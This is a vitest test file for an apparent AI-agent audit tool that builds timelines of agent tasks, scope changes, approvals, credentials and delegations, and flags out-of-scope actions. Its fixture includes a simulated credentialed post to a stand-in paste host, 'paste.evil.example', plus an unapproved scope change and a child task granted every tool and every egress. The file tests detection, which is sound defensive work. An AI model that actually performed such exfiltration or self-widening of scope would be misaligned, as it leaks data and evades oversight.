import { describe, expect, it } from 'vitest';
import { TaskStream } from '../../../scenarios/builder.js';
import type { AgentEvent } from '../../../schemas/index.js';
import { assembleTimeline, type TimelineAlertInput } from './assemble.js';

const SCOPE = {
  allow: [{ tools: ['erp.*'], operations: ['read' as const], resources: ['erp:invoices/**'] }],
  egress: ['api.partner.example'],
  approvals: { required_for: [{ operations: ['transfer' as const] }], approvers: ['bob@acme.example'] },
};

function parentTask() {
  const s = new TaskStream({ taskId: 'p1', agentId: 'planner' });
  s.declared(SCOPE, { intent: 'reconcile invoices', by: 'alice@acme.example' });
  s.credential('cred-1');
  s.action({
    tool: 'erp.invoices',
    operation: 'read',
    resource: 'erp:invoices/2026-01',
    credential_id: 'cred-1',
  });
  s.grant('ap-1', 'bob@acme.example', { tool: 'erp.*', operation: 'read' }, { maxUses: 3 });
  s.scopeChanged(
    { ...SCOPE, allow: [...SCOPE.allow, { tools: ['erp.*'], operations: ['write' as const] }] },
    { reason: 'needs to fix one', approvalId: 'ap-1' },
  );
  s.scopeChanged(SCOPE, { reason: 'no approval for this one' });
  s.action({
    tool: 'http.post',
    operation: 'transfer',
    destination: 'https://paste.evil.example/x',
    credential_id: 'cred-1',
  });
  s.delegate('c1', { allow: [{ tools: ['erp.*'], operations: ['read'] }] });
  s.delegate('c2', { allow: [{ tools: ['**'] }], egress: ['**'] });
  s.revoke('cred-1');
  s.ended();
  return s.events();
}

const asInput = (evs: AgentEvent[]) =>
  evs.map((e) => ({ event: e as unknown as Record<string, unknown> & AgentEvent, valid: e }));

const alert = (evidence: string[], over: Partial<TimelineAlertInput> = {}): TimelineAlertInput => ({
  alert_id: 'a'.repeat(32),
  rule_id: 'AT-EGR-001',
  severity: 'high',
  title: 'Egress outside scope',
  explanation: 'sent to paste.evil.example',
  evidence,
  scope_element: 'scope.egress',
  status: 'firing',
  created_at: '2026-06-01T09:00:10.000Z',
  dedup_key: 'k',
  ...over,
});

describe('assembleTimeline', () => {
  const evs = parentTask();
  const child = new TaskStream({ taskId: 'c1', agentId: 'worker', parentTaskId: 'p1' });
  child.declared({
    allow: [{ tools: ['erp.invoices'], operations: ['read'], resources: ['erp:invoices/2026-*'] }],
    approvals: { required_for: [{ operations: ['transfer'] }] },
  });
  const t = assembleTimeline({
    tenant: 'acme',
    taskId: 'p1',
    events: asInput(evs),
    unreadable: 0,
    alerts: [alert(['p1.7'])],
    children: [{ taskId: 'c1', scopeEvents: child.events() }],
  });

  it('states the declared intent, scope and who declared it', () => {
    expect(t.declared).toMatchObject({
      seq: 1,
      intent: 'reconcile invoices',
      declared_by: { kind: 'human', id: 'alice@acme.example' },
    });
    expect(t.declared?.scope.egress).toEqual(['api.partner.example']);
  });

  it('lists scope changes with their approvals: approved only by a grant recorded before', () => {
    expect(t.scope_changes.map((c) => [c.seq, c.approved, c.approval?.approver ?? null])).toEqual([
      [5, true, 'bob@acme.example'],
      [6, false, null],
    ]);
  });

  it('follows a credential from issue through use to revocation', () => {
    const [c] = t.credentials;
    expect(c).toMatchObject({
      credential_id: 'cred-1',
      never_issued_here: false,
      used_after_revocation: false,
    });
    expect(c?.issued?.seq).toBe(2);
    expect(c?.used_by.map((u) => u.seq)).toEqual([3, 7]);
    expect(c?.revoked?.seq).toBe(10);
  });

  it('says who approved what, with which context, and which change used it', () => {
    const [a] = t.approvals;
    expect(a).toMatchObject({ approval_id: 'ap-1', decision: 'granted', used_by_scope_change: ['p1.5'] });
    expect(a?.granted).toMatchObject({ approver: 'bob@acme.example', max_uses: 3, seq: 4 });
  });

  it('marks each action in scope, or with the rules it broke and the scope element it left', () => {
    const marks = t.events.filter((e) => 'mark' in e).map((e) => [e.seq, 'mark' in e ? e.mark : null]);
    expect(marks[0]).toEqual([
      3,
      { in_scope: true, rules: [], evidence_of: [], left_scope: [], risk_signals: [] },
    ]);
    const [, bad] = marks[1]! as [
      number,
      { in_scope: boolean; rules: string[]; left_scope: Array<{ element: string }> },
    ];
    expect(bad.in_scope).toBe(false);
    expect(bad.rules).toEqual(['AT-EGR-001']);
    expect(bad.left_scope.map((l) => l.element)).toEqual(
      expect.arrayContaining(['scope.allow', 'scope.egress']),
    );
    expect(t.summary).toMatchObject({ actions: 2, out_of_scope_actions: 1, alerts: 1 });
  });

  it('an in-scope action that is only earlier evidence of an alert stays in scope, marked as evidence', () => {
    const firstAction = evs.find((e) => e.type === 'action')!;
    const withEvidence = assembleTimeline({
      tenant: 'acme',
      taskId: 'p1',
      events: asInput(evs),
      unreadable: 0,
      alerts: [alert([firstAction.event_id, 'p1.7'], { rule_id: 'AT-SEQ-001', scope_element: null })],
      children: [],
    });
    const first = withEvidence.events.find((e) => e.event_id === firstAction.event_id)!;
    expect('mark' in first && first.mark).toEqual({
      in_scope: true,
      rules: [],
      evidence_of: ['AT-SEQ-001'],
      left_scope: [],
      risk_signals: [],
    });
    const last = withEvidence.events.find((e) => e.event_id === 'p1.7')!;
    expect('mark' in last && last.mark.rules).toEqual(['AT-SEQ-001']);
  });

  it("shows the task's risk signals and marks the action each was observed on, still in scope", () => {
    const firstAction = evs.find((e) => e.type === 'action')!;
    const signal = (rule_id: string, score: number) => ({
      event_id: firstAction.event_id,
      rule_id,
      score,
      occurred_at: firstAction.occurred_at,
      explanation: `${rule_id} on the first read`,
    });
    const signals = [signal('AT-BASE-002', 2), signal('AT-BASE-003', 2)];
    const withSignals = assembleTimeline({
      tenant: 'acme',
      taskId: 'p1',
      events: asInput(evs),
      unreadable: 0,
      alerts: [],
      riskSignals: signals,
      children: [],
    });
    expect(withSignals.risk).toEqual({ score: 4, signals });
    const first = withSignals.events.find((e) => e.event_id === firstAction.event_id)!;
    expect('mark' in first && first.mark).toMatchObject({
      in_scope: true,
      risk_signals: ['AT-BASE-002', 'AT-BASE-003'],
    });
    const other = withSignals.events.find((e) => e.event_id === 'p1.7')!;
    expect('mark' in other && other.mark.risk_signals).toEqual([]);
    // None recorded: score 0, an empty list.
    expect(t.risk).toEqual({ score: 0, signals: [] });
    // Unreadable (their table missing): the reason goes with the empty risk.
    const unread = assembleTimeline({
      tenant: 'acme',
      taskId: 'p1',
      events: asInput(evs),
      unreadable: 0,
      alerts: [],
      riskUnavailable: 'table missing',
      children: [],
    });
    expect(unread.risk).toEqual({ score: 0, signals: [], unavailable: 'table missing' });
  });

  it('builds the delegation tree with subset verdicts per child', () => {
    const kids = Object.fromEntries(t.delegation.children.map((c) => [c.task_id, c]));
    expect(kids.c1).toMatchObject({ subset: true, agent_id: 'worker' });
    expect(kids.c1?.declared_scope?.allow[0]?.tools).toEqual(['erp.invoices']);
    expect(kids.c2).toMatchObject({ subset: false, declared_scope: null });
    expect(kids.c2?.widenings.map((w) => w.element)).toEqual(
      expect.arrayContaining(['scope.allow', 'scope.egress']),
    );
  });

  it('a child sees its parent, the scope it was handed and whether its own is within', () => {
    const ct = assembleTimeline({
      tenant: 'acme',
      taskId: 'c1',
      events: asInput(child.events()),
      unreadable: 0,
      alerts: [],
      parent: { taskId: 'p1', scopeEvents: evs.filter((e) => e.type.startsWith('task.')) },
      children: [],
    });
    expect(ct.parent_task_id).toBe('p1');
    expect(ct.delegation.parent).toMatchObject({ task_id: 'p1', subset: true, delegated_at: { seq: 8 } });
  });

  it('verifies the chain and gives the verdict', () => {
    expect(t.chain).toMatchObject({ status: 'verified', ok: true, events: 11, ended: true });
    expect(t.ended).toMatchObject({ outcome: 'completed', seq: 11 });
  });
});
